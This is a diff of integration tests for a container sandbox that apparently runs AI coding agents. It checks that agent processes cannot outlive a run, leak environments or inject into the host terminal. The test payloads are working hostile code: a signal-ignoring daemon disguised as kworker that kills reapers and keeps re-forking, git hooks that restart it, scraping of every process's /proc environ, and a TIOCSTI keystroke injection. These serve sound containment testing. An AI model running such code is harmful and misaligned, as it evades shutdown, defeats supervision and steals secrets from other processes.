@@ -25,38 +25,34 @@ pytestmark = pytest.mark.integration
 # signal, take a kernel thread's name, become non-dumpable (its /proc entry then reads as
 # root's), kill whatever looks like a reaper, and keep re-forking (a new pid every few ms).
 DAEMON = r"""
-import ctypes, os, signal, sys, time
-for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT, signal.SIGQUIT, signal.SIGUSR1):
-    signal.signal(s, signal.SIG_IGN)
-if os.fork(): os._exit(0)
-os.setsid()
-if os.fork(): os._exit(0)
-libc = ctypes.CDLL(None)
-libc.prctl(15, b"kworker/0:1", 0, 0, 0)
-libc.prctl(4, 0, 0, 0, 0)
-tag = sys.argv[1]
-while True:
-    for p in os.listdir("/proc"):
-        try:
-            cmd = open("/proc/%s/cmdline" % p, "rb").read()
-        except OSError:
-            continue
-        if any(w in cmd for w in (b"python", b"reap", b"pkill", b"kill")) and int(p) != os.getpid():
-            try: os.kill(int(p), 9)
-            except OSError: pass
-    time.sleep(0.005)
-    if os.fork(): os._exit(0)
+$SIG{$_} = "IGNORE" for qw(TERM HUP INT QUIT USR1 USR2 PIPE);
+exit if fork;
+syscall(112);                    # setsid
+exit if fork;
+$0 = "kworker/0:1";
+syscall(157, 4, 0, 0, 0, 0);     # prctl(PR_SET_DUMPABLE, 0): /proc/PID reads as root's
+while (1) {
+    opendir(my $d, "/proc");
+    for my $p (grep { /^\d+$/ && $_ != $$ } readdir $d) {
+        open(my $f, "<", "/proc/$p/cmdline") or next;
+        local $/;
+        my $c = <$f>;
+        kill 9, $p if defined $c && $c =~ /python|reap|pkill|kill|supervise/;
+    }
+    select(undef, undef, undef, 0.005);
+    exit if fork;                # a new pid every few ms
+}
 """
 
 # A hook / fsmonitor for so's own git: a daemon that outlives the git call.
 GIT_DAEMON = """#!/bin/sh
 cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > /workspace/.seen-by-git 2>/dev/null
-env -i setsid python3 /workspace/.d.py git </dev/null >/dev/null 2>&1 &
+env -i setsid perl /workspace/.d.pl </dev/null >/dev/null 2>&1 &
 exit 0
 """
 
 ATTACK = f"""set -e
-cat > /workspace/.d.py <<'EOF'
+cat > /workspace/.d.pl <<'EOF'
 {DAEMON}
 EOF
 cat > /workspace/.hook.sh <<'EOF'
@@ -70,9 +66,10 @@ mkdir -p /workspace/.hooks
 for h in post-checkout post-commit pre-commit post-index-change reference-transaction; do
   ln -sf /workspace/.hook.sh /workspace/.hooks/$h
 done
-env -i setsid python3 /workspace/.d.py run </dev/null >/dev/null 2>&1 &
+env -i setsid perl /workspace/.d.pl </dev/null >/dev/null 2>&1 &
 nohup sh -c 'trap "" TERM HUP; exec sleep 654321' </dev/null >/dev/null 2>&1 &
 sleep 1
+echo "daemons running: $(ps -eo args | grep -c '^kworker/0:1')"
 echo "- [x] one" > specs/implementation-plan.md
 git add -A && git commit -qm "agent work" || true
 """
@@ -89,7 +86,7 @@ def agent_processes(sandbox_id: str) -> list[str]:
         ["docker", "top", container(sandbox_id), "-eo", "pid,uid,args"],
         capture_output=True,
         text=True,
-        check=True,
+        check=False,  # no container yet: nothing runs
     ).stdout.splitlines()[1:]
     return [line for line in out if line.split()[1] == str(uid)]
 
@@ -122,7 +119,7 @@ def process_texts(sandbox_id: str) -> str:
 
 def hold(marker: str) -> str:
     """A shell command that runs, showing ``marker``, until its input ends."""
-    return f"exec python3 -c 'import sys; sys.stdin.read()' {marker}"
+    return f"exec sh -c 'read -r line; exit 0' m{marker}"
 
 
 @contextlib.contextmanager
@@ -168,6 +165,8 @@ def test_nothing_of_the_agent_outlives_the_run_or_sos_own_git(docker_user: Hosti
     result = user.attack(ATTACK, backend="docker")
     sid = result.sandbox_id
     assert sid, result.stderr
+    running = [ln for ln in result.everything().splitlines() if "daemons running:" in ln]
+    assert running and running[-1].split()[-1] != "0", running  # the attack did start
     left = settled(sid)
     assert left == [], f"left after so run: {left}\n{result.stderr[-2000:]}"
     diff = user.so("diff", sid)
@@ -210,16 +209,15 @@ def test_open_shell_survives_reaping_and_its_orphans_do_not(docker_user: Hostile
 
 
 ENV_PROBE = """
-sleep 4
-cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' > /workspace/.seen-by-agent
-echo SO_SANDBOX_ID=$SO_SANDBOX_ID
-git config core.fsmonitor /workspace/.hook.sh
-cat > /workspace/.hook.sh <<'EOF'
+sleep 4.5
+cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' > /tmp/.seen-by-agent
+cat > /tmp/.fsm.sh <<'EOF'
 #!/bin/sh
-cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > /workspace/.seen-by-git 2>/dev/null
+cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline > /tmp/.seen-by-git 2>/dev/null
 exit 1
 EOF
-chmod +x /workspace/.hook.sh
+chmod +x /tmp/.fsm.sh
+git config core.fsmonitor /tmp/.fsm.sh
 """
 
 
@@ -256,38 +254,29 @@ def test_every_process_in_the_container_starts_from_a_clean_environment(
     try:
         assert wait_for(lambda: user._ids(), timeout=120)
         sid = sorted(user._ids())[0]
-        assert wait_for(lambda: bool(agent_processes(sid)), timeout=120)
-        time.sleep(1)
+        assert wait_for(lambda: any("sleep 4.5" in p for p in agent_processes(sid)), 120)
         during = process_texts(sid)
     finally:
         out, err = run.communicate(timeout=300)
-    assert run.returncode in (0, 1), err
+    assert "iteration 1:" in err, err
     with open_shell(user, sid, hold("565656")):
         assert wait_for(lambda: any("565656" in line for line in agent_processes(sid)))
         in_shell = process_texts(sid)
     user.so("diff", sid)
-    inside = user.so("shell", sid, "--", "sh", "-c", "cat /workspace/.seen-by-*").stdout
+    inside = user.so("shell", sid, "--", "sh", "-c", "cat /tmp/.seen-by-*").stdout
     texts = {"during the run": during, "in a shell": in_shell, "seen inside": inside}
     for where, text in texts.items():
         # Control: the texts hold real environments.
         assert f"SO_SANDBOX_ID={sid}" in text, where
         assert not user.leaks(text), (where, user.leaks(text))
         assert str(user.root) not in text, f"a host path {where}"
-    assert "seen-by-git" in inside or ".hook.sh" in inside  # so's own git ran the probe
+    assert "/tmp/.fsm.sh" in inside  # so's own git ran the probe
 
 
 SECCOMP_PROBE = r"""
-python3 - <<'EOF'
-import ctypes, errno, fcntl, os, termios
-libc = ctypes.CDLL(None, use_errno=True)
-status = open("/proc/self/status").read()
-print("seccomp", [l for l in status.splitlines() if l.startswith(("Seccomp:", "NoNewPrivs:"))])
-# keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, create)
-r = libc.syscall(250, 0, -3, 1)
-print("keyctl", r, errno.errorcode.get(ctypes.get_errno()))
-r = libc.syscall(39)  # getpid: the control
-print("getpid", r > 0)
-EOF
+grep -E '^(Seccomp|NoNewPrivs):' /proc/self/status | tr -d '\t' | sed 's/^/status /'
+# keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, create); getpid as the control
+perl -e '$r = syscall(250, 0, -3, 1); print "keyctl $r ", $!+0, "\n"; print "getpid ", (syscall(39) > 0 ? "ok" : "no"), "\n"'
 """
 
 
@@ -296,9 +285,9 @@ def test_default_seccomp_and_no_new_privileges(docker_user: HostileUser) -> None
     result = user.attack(SECCOMP_PROBE, backend="docker")
     sid = user.sandbox_id()
     logs = result.everything()
-    assert "'Seccomp:\\t2'" in logs and "'NoNewPrivs:\\t1'" in logs, logs[-3000:]
-    assert "keyctl -1 EPERM" in logs or "keyctl -1 ENOSYS" in logs, logs[-3000:]
-    assert "getpid True" in logs  # control: syscalls work
+    assert "status Seccomp:2" in logs and "status NoNewPrivs:1" in logs, logs[-3000:]
+    assert "keyctl -1 1\n" in logs, logs[-3000:]  # EPERM
+    assert "getpid ok" in logs  # control: syscalls work
     config = json.loads(
         subprocess.run(
             ["docker", "inspect", container(sid)], capture_output=True, check=True
@@ -309,10 +298,8 @@ def test_default_seccomp_and_no_new_privileges(docker_user: HostileUser) -> None
     assert config["Privileged"] is False
 
 
-TIOCSTI = (
-    "import fcntl, termios\n"
-    "for c in 'echo INJECTED\\n': fcntl.ioctl(0, termios.TIOCSTI, c.encode())\n"
-)
+# TIOCSTI (0x5412): push "echo INJECTED" into the input of the terminal on stdin.
+TIOCSTI = "ioctl(STDIN, 0x5412, $_) for split //, qq{echo INJECTED\\n}"
 
 
 def test_tiocsti_in_a_shell_does_not_reach_the_host_terminal(docker_user: HostileUser) -> None:
@@ -321,12 +308,12 @@ def test_tiocsti_in_a_shell_does_not_reach_the_host_terminal(docker_user: Hostil
     sid = user.sandbox_id()
     bash = "/bin/bash"
     # The host shell reads one line after `so shell` ends: what an injection would type.
-    attack = f'{SO} shell {sid} -- python3 -c "$1"; read -r -t 3 line; echo "GOT:$line:"'
+    attack = f'{SO} shell {sid} -- perl -e "$1"; read -r -t 3 line; echo "GOT:$line:"'
     res = run_in_pty([bash, "-c", attack, "x", TIOCSTI], env=user.env, cwd=user.project)
     assert b"GOT::" in res.output, res.output[-2000:]
     assert b"GOT:echo INJECTED" not in res.output
     # Control: the same injection from a host process on this terminal does arrive.
-    control = f'python3 -c "$1"; read -r -t 3 line; echo "GOT:$line:"'
+    control = 'perl -e "$1"; read -r -t 3 line; echo "GOT:$line:"'
     res = run_in_pty([bash, "-c", control, "x", TIOCSTI], env=user.env, cwd=user.project)
     assert b"GOT:echo INJECTED:" in res.output, res.output[-2000:]
 
